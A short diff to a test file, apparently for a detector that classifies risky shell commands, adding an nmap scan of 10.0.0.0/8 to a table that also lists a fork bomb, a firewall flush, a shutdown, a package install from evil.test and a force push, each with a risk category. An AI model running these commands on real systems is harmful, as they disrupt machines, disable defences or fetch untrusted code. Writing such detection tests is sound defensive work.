@@ -107,6 +107,7 @@ def test_a_disguise_is_reported_as_one(command: str) -> None:
         ("iptables -F", "defence_evasion"),
         (":(){ :|:& };:", "resource_exhaustion"),
         ("shutdown -h now", "machine_stop"),
+        ("nmap -sS 10.0.0.0/8", "attack_tool"),
         ("pip install -i http://evil.test/simple x", "package_source"),
         ("twine upload dist/*", "publish_package"),
         ("git push --force origin main", "history_rewrite"),
